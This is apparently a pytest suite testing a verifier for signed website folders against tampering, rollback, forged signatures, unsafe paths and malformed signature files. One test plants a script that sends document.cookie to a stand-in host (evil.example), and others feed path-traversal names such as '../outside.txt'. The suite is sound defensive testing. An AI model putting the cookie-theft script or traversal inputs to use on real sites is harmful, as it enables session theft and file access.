"""The tamper suite on site folders: every attack gets the right verdict and message."""

from __future__ import annotations

import base64
import json
import os
import shutil
from pathlib import Path

import pytest
from signing_helpers import (
    Key,
    check,
    envelope,
    kinds,
    make_key,
    make_site,
    resign,
    sign,
    statement,
    write_envelope,
)

from handover_docs.errors import HandoverError
from handover_docs.signing.verify import MAX_SIGNATURE_BYTES


@pytest.fixture
def key(tmp_path: Path) -> Key:
    return make_key(tmp_path / "keys")


@pytest.fixture
def site(tmp_path: Path, key: Key) -> Path:
    folder = make_site(tmp_path / "site")
    sign(folder, key, release="1.0.0", site_url="https://handover.example/model/")
    return folder


def test_a_fresh_signature_verifies(site: Path, key: Key) -> None:
    verdict = check(site, key)
    assert verdict.ok, verdict.problems
    assert verdict.key_id == key.key_id
    assert verdict.release == "1.0.0" and verdict.sequence == 1
    assert verdict.files_checked == verdict.files_signed == 9  # 8 pages + the shipped public key


def test_flip_a_byte(site: Path, key: Key) -> None:
    page = site / "model-card" / "index.html"
    data = bytearray(page.read_bytes())
    data[30] ^= 0x01
    page.write_bytes(bytes(data))
    verdict = check(site, key)
    assert kinds(verdict) == [("modified", "model-card/index.html")]
    assert "sha256 differs" in verdict.problems[0].message


def test_truncate(site: Path, key: Key) -> None:
    page = site / "assets" / "logo.png"
    page.write_bytes(page.read_bytes()[:100])
    verdict = check(site, key)
    assert kinds(verdict) == [("modified", "assets/logo.png")]
    assert "100 bytes, the signed file has 1024" in verdict.problems[0].message


def test_add_an_injected_script(site: Path, key: Key) -> None:
    (site / "assets" / "inject.js").write_text("fetch('https://evil.example/?c='+document.cookie)")
    verdict = check(site, key)
    assert kinds(verdict) == [("extra", "assets/inject.js")]
    assert verdict.problems[0].message == "in the site but not signed"


def test_delete(site: Path, key: Key) -> None:
    (site / "sitemap.xml").unlink()
    verdict = check(site, key)
    assert kinds(verdict) == [("missing", "sitemap.xml")]
    assert "signed but not in the site" in verdict.problems[0].message


def test_rename(site: Path, key: Key) -> None:
    (site / "about" / "index.html").rename(site / "about" / "index2.html")
    verdict = check(site, key)
    assert kinds(verdict) == [("extra", "about/index2.html"), ("missing", "about/index.html")]


def test_swap_two_files(tmp_path: Path, key: Key) -> None:
    site = make_site(tmp_path / "site")
    make_site(
        site,
        {
            "faq/index.html": b"<html>faq two!</html>",
            "runbook/index.html": b"<html>run book</html>",
        },
    )
    sign(site, key)
    a, b = site / "faq" / "index.html", site / "runbook" / "index.html"
    data_a, data_b = a.read_bytes(), b.read_bytes()
    a.write_bytes(data_b)
    b.write_bytes(data_a)
    verdict = check(site, key)
    assert kinds(verdict) == [("modified", "faq/index.html"), ("modified", "runbook/index.html")]
    assert all(p.message == "sha256 differs from the signed one" for p in verdict.problems)


def test_mix_and_match_a_page_from_an_older_release(tmp_path: Path, key: Key) -> None:
    old = make_site(tmp_path / "v1")
    sign(old, key, release="1.0.0")
    new = make_site(
        tmp_path / "v2",
        {"model-card/index.html": b"<html><head></head><body>threshold 0.37</body></html>\n"},
    )
    make_site(
        new,
        {
            k: v
            for k, v in __import__("signing_helpers").SITE_FILES.items()
            if k != "model-card/index.html"
        },
    )
    sign(new, key, release="2.0.0", previous=str(old))
    assert check(new, key).ok
    shutil.copy(old / "model-card" / "index.html", new / "model-card" / "index.html")
    verdict = check(new, key)
    assert kinds(verdict) == [("modified", "model-card/index.html")]


def test_rollback_to_an_older_release_with_its_genuine_signature(tmp_path: Path, key: Key) -> None:
    v1 = make_site(tmp_path / "v1")
    sign(v1, key, release="1.0.0")
    v2 = make_site(tmp_path / "v2", {"index.html": b"<html>new home</html>\n"})
    sign(v2, key, release="2.0.0", previous=str(v1))
    state = tmp_path / "audit-state.json"
    assert check(v2, key, state_file=state).ok
    assert json.loads(state.read_text())["sites"][f"signer:{key.key_id}"]["sequence"] == 2
    verdict = check(v1, key, state_file=state)  # an old release, served as if current
    assert kinds(verdict) == [("rollback", None)]
    assert (
        "sequence 1 (release 1.0.0) is below the last one seen by this signer (for any site), "
        "2 (release 2.0.0)" in verdict.problems[0].message
    )
    verdict = check(v1, key, min_sequence=2)
    assert kinds(verdict) == [("rollback", None)]
    assert "below the minimum 2" in verdict.problems[0].message
    # The state is not lowered by a failed verification.
    assert json.loads(state.read_text())["sites"][f"signer:{key.key_id}"]["sequence"] == 2


def test_two_statements_with_one_sequence_are_a_fork(tmp_path: Path, key: Key) -> None:
    a = make_site(tmp_path / "a")
    sign(a, key, sequence=5)
    b = make_site(tmp_path / "b", {"index.html": b"<html>other</html>\n"})
    sign(b, key, sequence=5)
    state = tmp_path / "state.json"
    assert check(a, key, state_file=state).ok
    assert check(a, key, state_file=state).ok  # seeing the same release again is fine
    verdict = check(b, key, state_file=state)
    assert kinds(verdict) == [("fork", None)]


def test_expired_signature(tmp_path: Path, key: Key, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # 2023-11-14
    folder = make_site(tmp_path / "site")
    sign(folder, key, expires_in_days=30)
    verdict = check(folder, key)
    assert kinds(verdict) == [("expired", None)]
    assert verdict.problems[0].message == "the signature expired at 2023-12-14T22:13:20Z"


def test_another_sites_signature(tmp_path: Path, key: Key) -> None:
    a = make_site(tmp_path / "a")
    sign(a, key, site_url="https://a.example/handover/")
    b = make_site(tmp_path / "b", {"index.html": b"<html>site b</html>\n", "b.html": b"b"})
    sign(b, key, site_url="https://b.example/")
    verdict = check(b, key, site_url="https://a.example/handover/")
    assert kinds(verdict) == [("wrong-site-url", None)]
    assert verdict.problems[0].message == (
        "signed for https://b.example/, but verifying https://a.example/handover/"
    )
    # B's signature copied into A: every difference shows.
    shutil.copy(b / "handover-signature.json", a / "handover-signature.json")
    verdict = check(a, key, site_url="https://a.example/handover/")
    found = {k for k, _ in kinds(verdict)}
    assert {"wrong-site-url", "missing", "extra", "larger"} <= found


def test_payload_changed_with_the_old_signature(site: Path, key: Key) -> None:
    env = envelope(site)
    stmt = statement(site)
    stmt["subject"].append(
        {"name": "evil.js", "digest": {"sha256": "0" * 64}, "annotations": {"size": 1}}
    )
    env["payload"] = base64.b64encode(json.dumps(stmt).encode()).decode()
    write_envelope(site, env)
    verdict = check(site, key)
    assert kinds(verdict) == [("bad-signature", None)]
    assert (
        f"no signature verifies under the trusted key {key.key_id}" in verdict.problems[0].message
    )


def test_only_the_payload_type_changed(site: Path, key: Key) -> None:
    env = envelope(site)
    env["payloadType"] = "application/json"
    write_envelope(site, env)
    verdict = check(site, key)
    assert kinds(verdict) == [("bad-signature", None), ("payload-type", None)]
    assert "payloadType is 'application/json'" in str(verdict.problems)


def test_attacker_resigns_with_their_key_and_copies_our_key_id(
    tmp_path: Path, site: Path, key: Key
) -> None:
    attacker = make_key(tmp_path / "attacker", "mallory")
    stmt = statement(site)
    (site / "index.html").write_text("<html>pwned</html>")
    for subject in stmt["subject"]:
        if subject["name"] == "index.html":
            subject["digest"]["sha256"] = (
                __import__("hashlib").sha256(b"<html>pwned</html>").hexdigest()
            )
            subject["annotations"]["size"] = 18
    resign(site, attacker, stmt, keyid=key.key_id)
    verdict = check(site, key)
    assert kinds(verdict) == [("bad-signature", None)]
    assert (
        f"the envelope names key {key.key_id}; a key id proves nothing"
        in verdict.problems[0].message
    )
    # Pinning only the key id does not help the attacker either: our shipped key does not verify.
    assert kinds(check(site, key_id=key.key_id)) == [("bad-signature", None)]
    # If they also ship their public key, the verdict names both key ids.
    shutil.copy(attacker.public, site / "handover-signing-key.pub")
    verdict = check(site, key_id=key.key_id)
    assert kinds(verdict) == [("untrusted-key", None)]
    assert f"signed by key {attacker.key_id}" in verdict.problems[0].message
    assert f"expected {key.key_id}" in verdict.problems[0].message


def test_the_same_signature_duplicated(site: Path, key: Key) -> None:
    env = envelope(site)
    env["signatures"] = env["signatures"] * 2
    write_envelope(site, env)
    verdict = check(site, key)
    assert kinds(verdict) == [("malformed-signature", None)]
    assert "signatures[1] repeats an earlier signature" in verdict.problems[0].message


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../outside.txt", "'..', '.' or empty segment in path"),
        ("/etc/hostname", "absolute path"),
        ("assets\\..\\..\\outside.txt", "backslash in path"),
        ("C:/outside.txt", "absolute path"),
        ("a//b.html", "'..', '.' or empty segment in path"),
    ],
)
def test_unsafe_subject_paths_are_rejected_before_reading(
    tmp_path: Path, site: Path, key: Key, name: str, reason: str
) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"secret")
    stmt = statement(site)
    stmt["subject"].append(
        {
            "name": name,
            "digest": {"sha256": __import__("hashlib").sha256(b"secret").hexdigest()},
            "annotations": {"size": 6},
        }
    )
    resign(site, key, stmt)  # even a genuine signature cannot smuggle such a path in
    verdict = check(site, key)
    assert kinds(verdict) == [("bad-statement", None)]
    assert f"unsafe subject path {name!r}: {reason}" in verdict.problems[0].message
    assert verdict.files_checked == 0 and verdict.sequence is None


def test_a_symlink_in_the_site_is_refused_at_sign_and_verify(tmp_path: Path, key: Key) -> None:
    folder = make_site(tmp_path / "site")
    (folder / "link.html").symlink_to(folder / "index.html")
    with pytest.raises(HandoverError, match="cannot sign: symbolic links are not allowed"):
        sign(folder, key)
    assert not (folder / "handover-signature.json").exists()
    (folder / "link.html").unlink()
    sign(folder, key)
    (folder / "about" / "index.html").unlink()
    (folder / "about" / "index.html").symlink_to(folder / "index.html")
    verdict = check(folder, key)
    assert kinds(verdict) == [("symlink", "about/index.html")]
    assert verdict.problems[0].message == "symbolic links are not allowed"


def test_a_special_file_in_the_site_is_refused_at_sign_and_verify(tmp_path: Path, key: Key) -> None:
    folder = make_site(tmp_path / "site")
    os.mkfifo(folder / "pipe")
    with pytest.raises(HandoverError, match="cannot sign: not a regular file"):
        sign(folder, key)
    os.unlink(folder / "pipe")
    sign(folder, key)
    os.mkfifo(folder / "assets" / "pipe")
    verdict = check(folder, key)  # must not block reading the FIFO
    assert kinds(verdict) == [("special-file", "assets/pipe")]


def test_a_file_larger_than_recorded(site: Path, key: Key) -> None:
    with (site / "assets" / "app.js").open("ab") as handle:
        handle.write(b"\n" * 5_000_000)
    verdict = check(site, key)
    assert kinds(verdict) == [("larger", "assets/app.js")]
    assert "larger than the signed 20" in verdict.problems[0].message


def test_an_oversized_signature_file_is_refused(site: Path, key: Key) -> None:
    with (site / "handover-signature.json").open("r+b") as handle:
        handle.truncate(MAX_SIGNATURE_BYTES + 10)  # sparse: cheap to make
    verdict = check(site, key)
    assert kinds(verdict) == [("malformed-signature", None)]
    assert f"larger than {MAX_SIGNATURE_BYTES} bytes" in verdict.problems[0].message


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"not json", "the signature file is not JSON"),
        (b"[]", "not a JSON object"),
        (b'{"payload": "", "payloadType": "x"}', "lacks signatures"),
        (
            b'{"payload": "!!", "payloadType": "x", "signatures": [{"sig": "AA=="}]}',
            "payload is not base64",
        ),
        (
            b'{"payload": "e30=", "payload": "e30=", "payloadType": "x", "signatures": []}',
            "has the key 'payload' twice",
        ),
        (b'{"payload": "e30", "payloadType": "x", "signatures": []}', "non-empty list"),
        (
            b'{"payload": "e31=", "payloadType": "x", "signatures": [{"sig": "AA=="}]}',
            "non-canonical base64",
        ),
        (b"\xff\xfe", "not UTF-8"),
    ],
)
def test_a_malformed_signature_file(site: Path, key: Key, text: bytes, message: str) -> None:
    (site / "handover-signature.json").write_bytes(text)
    verdict = check(site, key)
    assert kinds(verdict) == [("malformed-signature", None)]
    assert message in verdict.problems[0].message


def test_no_signature_at_all(tmp_path: Path, key: Key) -> None:
    verdict = check(make_site(tmp_path / "plain"), key)
    assert kinds(verdict) == [("no-signature", None)]
    assert "it is not signed" in verdict.problems[0].message


def test_url_safe_base64_without_padding_is_accepted(site: Path, key: Key) -> None:
    def urlsafe(text: str) -> str:
        return base64.urlsafe_b64encode(base64.b64decode(text)).decode().rstrip("=")

    for attempt in range(2, 40):  # until the signature uses the URL-safe letters '-' or '_'
        env = envelope(site)
        sig = urlsafe(env["signatures"][0]["sig"])
        if "-" in sig or "_" in sig:
            break
        sign(site, key, release=f"1.0.{attempt}")
    env["payload"] = urlsafe(env["payload"])
    env["signatures"][0]["sig"] = sig
    assert ("-" in sig or "_" in sig) and not env["payload"].endswith("=")
    write_envelope(site, env)
    verdict = check(site, key)
    assert verdict.ok, verdict.problems
    # ...and a tampered URL-safe signature still fails.
    env["signatures"][0]["sig"] = (
        sig.replace("-", "_", 1) if "-" in sig else sig.replace("_", "-", 1)
    )
    write_envelope(site, env)
    assert kinds(check(site, key)) == [("bad-signature", None)]


def test_a_fifo_in_place_of_the_signature_does_not_block(site: Path, key: Key) -> None:
    (site / "handover-signature.json").unlink()
    os.mkfifo(site / "handover-signature.json")
    verdict = check(site, key)
    assert kinds(verdict) == [("no-signature", None)]
    assert "not a regular file" in verdict.problems[0].message
